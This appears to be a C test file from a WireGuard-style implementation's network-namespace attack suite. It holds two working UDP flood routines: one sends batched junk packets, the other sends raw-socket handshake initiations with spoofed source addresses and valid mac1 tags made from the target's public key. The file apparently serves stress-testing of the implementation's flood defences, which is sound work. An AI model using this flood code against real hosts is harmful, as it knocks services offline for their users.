/* SPDX-License-Identifier: MIT */
/* Floods by UDP: junk, and initiations with a valid mac1 that only the victim can tell from authentic ones.
 */
#include "tests/netns/attack/attack.h"

#include "core/noise/cookie.h"
#include "tests/netns/attack/onpath.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64
#define JUNK_MAX 1500
#define UDP_HEADER_LEN 8
#define PACKET_LEN (IP_HEADER_LEN + UDP_HEADER_LEN + sizeof(struct initiation))

static void fill(uint8_t *out, size_t len)
{
	for (size_t i = 0; i + 8 <= len; i += 8) {
		uint64_t random = attack_random();

		memcpy(out + i, &random, 8);
	}
}

int attack_junk(const struct attack *attack)
{
	struct sockaddr_in to = {
		.sin_family = AF_INET, .sin_addr = attack->address, .sin_port = htons(attack->port)
	};
	static uint8_t bytes[BATCH][JUNK_MAX];
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec pieces[BATCH];
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	uint64_t sent = 0;
	double start = attack_now();

	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return -errno;
	for (int i = 0; i < BATCH; i++) {
		fill(bytes[i], JUNK_MAX);
		/* Half of them look like a type of WireGuard's at least. */
		if (i % 2)
			memcpy(bytes[i], &(uint32_t){ htole32(1u + (unsigned)i / 2 % 4) }, 4);
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &pieces[i], .msg_iovlen = 1 };
	}
	while (attack_goes_on(attack, start, sent)) {
		for (int i = 0; i < BATCH; i++) {
			static const size_t lengths[] = { 0, 148, 92, 64, 32, 1452, 20, 500 };
			size_t len = lengths[attack_random() % 8];

			pieces[i] = (struct iovec){ bytes[i], len };
			if (len >= 16)
				fill(bytes[i] + 8, 8);
		}
		int done = sendmmsg(fd, messages, BATCH, 0);

		if (done > 0)
			sent += (uint64_t)done;
		else if (errno != ECONNREFUSED && errno != ENOBUFS && errno != EAGAIN)
			return -errno;
	}
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, attack_now() - start);
	close(fd);
	return 0;
}

int attack_initiations(const struct attack *attack)
{
	static uint8_t bytes[BATCH][PACKET_LEN];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = attack->address };
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec pieces[BATCH];
	struct cookie_maker maker;
	int fd = raw_open();
	uint64_t sent = 0;
	double start = attack_now();

	if (fd < 0)
		return fd;
	cookie_maker_init(&maker, attack->public_key);
	for (int i = 0; i < BATCH; i++) {
		pieces[i] = (struct iovec){ bytes[i], PACKET_LEN };
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &pieces[i], .msg_iovlen = 1
		};
	}
	while (attack_goes_on(attack, start, sent)) {
		for (int i = 0; i < BATCH; i++) {
			uint8_t *message = bytes[i] + IP_HEADER_LEN + UDP_HEADER_LEN;
			uint32_t source =
				ntohl(attack->first.s_addr) + (uint32_t)(attack_random() % attack->sources);

			raw_header(bytes[i], IPPROTO_UDP, htonl(source), attack->address.s_addr, PACKET_LEN);
			raw_udp(bytes[i] + IP_HEADER_LEN, (uint16_t)(1024 + attack_random() % 60000),
				attack->port, PACKET_LEN - IP_HEADER_LEN);
			fill(message, sizeof(struct initiation) - 4);
			memcpy(message, &(uint32_t){ htole32(MESSAGE_INITIATION) }, 4);
			cookie_maker_sign(&maker, message, sizeof(struct initiation), MONO_UNSET);
		}
		int done = sendmmsg(fd, messages, BATCH, 0);

		if (done > 0)
			sent += (uint64_t)done;
		else if (errno != ENOBUFS && errno != EAGAIN)
			return -errno;
	}
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, attack_now() - start);
	close(fd);
	return 0;
}
